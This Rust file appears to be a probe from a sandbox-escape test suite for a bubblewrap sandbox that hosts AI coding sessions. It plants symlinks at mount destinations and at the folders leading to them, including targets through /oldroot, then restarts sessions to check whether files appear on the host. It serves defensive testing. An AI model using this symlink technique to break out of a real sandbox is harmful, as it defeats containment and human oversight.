//! bwrap makes the place of each mount, and follows a link on the way: planted where a session could write, one that leads through
//! `/oldroot` makes folders and files on the host (M-05, CVE-2026-87766). So every place of a mount below something writable, and
//! every folder that leads there, gets links of each kind, and the session is started again.   (threats: MNT-01)
use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::harness::detonator;
use crate::harness::tree::Part;
use crate::probe::*;

/// Where something is mounted or made in what can be written here, with the folders that lead there. Not the way to the project:
/// where the home folder is the real one, nothing could be started there again.
fn destinations(bait: &Bait) -> BTreeSet<PathBuf> {
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mounts = mounts
        .lines()
        .filter_map(|line| line.split(' ').nth(4))
        .map(PathBuf::from);
    // What is made there without a mount, now or in a launcher to come.
    let made = [".config/git/config", ".claudebox/env", ".ssh/known_hosts"];
    let all = mounts.chain(made.map(|name| bait.home.join(name)));
    let mut found = BTreeSet::new();
    for place in all {
        let below_home = |path: &&Path| path.starts_with(&bait.home) && *path != bait.home;
        found.extend(place.ancestors().take_while(below_home).map(PathBuf::from));
    }
    // What is hidden cannot be moved either, nor can the folder around it: see `project_secrets`.
    let hidden = |path: &Path| bait.kept.iter().any(|kept| path.starts_with(kept));
    // The state of the project: see `state_destinations`.
    let state = bait.home.join(".claude");
    found.retain(|path| {
        !bait.project.starts_with(path) && !hidden(path) && !path.starts_with(&state)
    });
    found
}

/// Links of each kind to the host, by number.
fn target(bait: &Bait, number: usize) -> PathBuf {
    let folder = bait.beside.join("made");
    let up: PathBuf = std::iter::repeat_n("..", 12).collect();
    let inner = |path: &Path| path.strip_prefix("/").unwrap_or(path).to_owned();
    match number % 7 {
        0 => bait.beside.join("file"),
        1 => bait.beside.clone(),
        2 => folder,
        3 => up.join(inner(&folder)),
        4 => Path::new("/oldroot").join(inner(&folder)),
        5 => Path::new("/oldroot").join(inner(&bait.beside)),
        _ => up.join("oldroot").join(inner(&folder)),
    }
}

/// Replaces each place by a link of the kind that `round` gives it.
fn plant(bait: &Bait, round: usize) -> Seen {
    let mut seen = Seen::default();
    // What is deep first: afterwards a link stands for the folder around it.
    for (number, place) in destinations(bait).iter().rev().enumerate() {
        let _ = fs::create_dir_all(place.parent().unwrap_or(place));
        let _ = fs::rename(place, place.with_extension(format!("put-aside-{round}")));
        let link = symlink(target(bait, number + round), place);
        seen.add(place.display(), Act::of(link));
    }
    seen
}

pub const PROBE: Probe = Probe {
    asks: "does a link at the place of a mount, or on the way there, change anything on the host the next time?",
    threats: &["MNT-01"],
    behind: &[Guard::HomeHidden],
    tiers: &[Tier::None],
    also_as_root: true,
    // What is guarded in the project cannot be moved: see `host_runs` and `pinned_parents`.
    before: Some(|lab| {
        detonator::nothing_guarded(lab)?;
        Part::Outside.take(&lab.bait)
    }),
    expect: Expect::Reached,
    attempt: |bait| plant(bait, 0),
    then: &[
        Then::Session(Session {
            attempt: |bait| plant(bait, 1),
            ..Session::USUAL
        }),
        Then::Session(Session {
            attempt: |bait| plant(bait, 2),
            ..Session::USUAL
        }),
        Then::Session(Session::USUAL),
    ],
    harmed: |bait| Part::Outside.changed(bait),
    ..Probe::USUAL
};
